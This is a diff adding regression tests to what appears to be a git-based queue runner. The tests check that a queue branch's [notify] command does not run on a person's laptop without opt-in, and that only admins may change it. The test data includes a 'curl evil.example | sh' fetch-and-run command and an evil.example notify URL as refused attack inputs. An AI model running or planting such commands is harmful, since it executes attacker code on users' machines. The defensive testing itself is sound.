@@ -5,9 +5,11 @@ and its docstring names the attack it repeats."""
 from __future__ import annotations
 
 import json
+from pathlib import Path
 
-from conftest import edit, git, runner, step_file
-from hooked import QUEUE, clone, push_commit, queue, refused, remote, template  # noqa: F401 - fixtures among them
+from conftest import edit, git, runner, step_file, wait_for
+from hooked import IDENTITIES, QUEUE, accepted, clone, push_commit, queue, refused, remote, template  # noqa: F401 - fixtures among them
+from runner.core.config import DEFAULT_TOML
 from runner.core.limits import MAX_GLOB_SEGMENTS, MAX_TOUCHES
 from runner.queue.queue import author_for
 from runner.store import FORCE, RefUpdate
@@ -47,3 +49,46 @@ def test_a_glob_bomb_already_on_a_queue_without_the_hook_is_an_invalid_step_no_c
     rows = {row["step"]: row for row in json.loads(runner(queue_repo, "status", "--json").stdout)["steps"]}
     assert {rows[step]["status"] for step in ("01-bomb", "02-bomb")} == {"invalid"}
     assert f"a glob has at most {MAX_GLOB_SEGMENTS}" in rows["01-bomb"]["problems"][0]
+
+
+def with_notify(command: list[str], urls: list[str] = ()) -> str:
+    text = DEFAULT_TOML.replace("detect = true", "detect = false")
+    return text.replace("[notify]\ncommand = []", f"[notify]\ncommand = {json.dumps(command)}").replace(
+        "urls = []", f"urls = {json.dumps(list(urls))}")
+
+
+def notify_log(repo: Path) -> str:
+    path = repo / ".git" / "runner" / "logs" / "notify.log"
+    return path.read_text() if path.exists() else ""
+
+
+def test_a_persons_halt_runs_no_notify_command_from_the_queue_unless_this_host_opted_in(queue_repo, tmp_path):
+    """Attack 1: [notify] command comes from the queue branch (any pusher's, without identities) and ran on
+    the machine of whoever recorded an event: a person's `runner halt` ran it on their laptop."""
+    ran = tmp_path / "ran.txt"
+    edit(queue_repo, {"runner.toml": with_notify(["sh", "-c", 'echo "$1" >> "$0"', str(ran), "{event}"]).encode()})
+    runner(queue_repo, "halt", "--reason", "lunch", "--by", "alice")
+    assert "halted of " in notify_log(queue_repo) and "not sent: [notify] comes from the queue branch" in notify_log(queue_repo)
+    said = lambda: next(c["detail"] for c in json.loads(runner(queue_repo, "doctor", "--json").stdout)["checks"] if c["name"] == "notices")  # noqa: E731
+    assert said().startswith("this host does not send [notify]'s notices")
+    git(queue_repo, "config", "runner.notify", "true")  # this clone opts in, by a setting no push reaches
+    assert said() == "this host sends [notify]'s notices (it opted in)"
+    runner(queue_repo, "resume", "--by", "alice")
+    runner(queue_repo, "halt", "--reason", "tea", "--by", "alice")
+    assert wait_for(lambda: ran.exists() and ran.read_text()) == "halted\n"
+    runner(queue_repo, "resume", "--by", "alice")
+    runner(queue_repo, "halt", "--reason", "dinner", "--by", "alice", env={"RUNNER_NOTIFY": "0"})  # this process opts out
+    assert notify_log(queue_repo).count("not sent: [notify] comes from the queue branch") == 2
+    assert ran.read_text() == "halted\n"
+
+
+def test_with_identities_only_an_admin_changes_notify(queue, remote, monkeypatch):
+    """Attack 1 under identities: a person who is not an admin (bob) set [notify] command, and an admin's next
+    `runner halt` ran it on the admin's laptop; [notify] is an admin's now, like [hooks]."""
+    queue.edit(lambda snap: {"runner.toml": (with_notify([]) + IDENTITIES).encode()}, "identities", "alice")
+    for changed in (with_notify(["sh", "-c", "curl evil.example | sh"]), with_notify([], ["json://evil.example/x"])):
+        monkeypatch.setenv("RUNNER_PUSHER", "bob")
+        refused(remote, lambda: push_commit(queue, {"runner.toml": (changed + IDENTITIES).encode()}, "notify me\n", author="bob"),
+                "only [hooks] admins may change [hooks], [notify] or the branch names (pusher 'bob')")
+    monkeypatch.setenv("RUNNER_PUSHER", "alice")
+    accepted(push_commit(queue, {"runner.toml": (with_notify(["true"]) + IDENTITIES).encode()}, "notify\n", author="alice"))
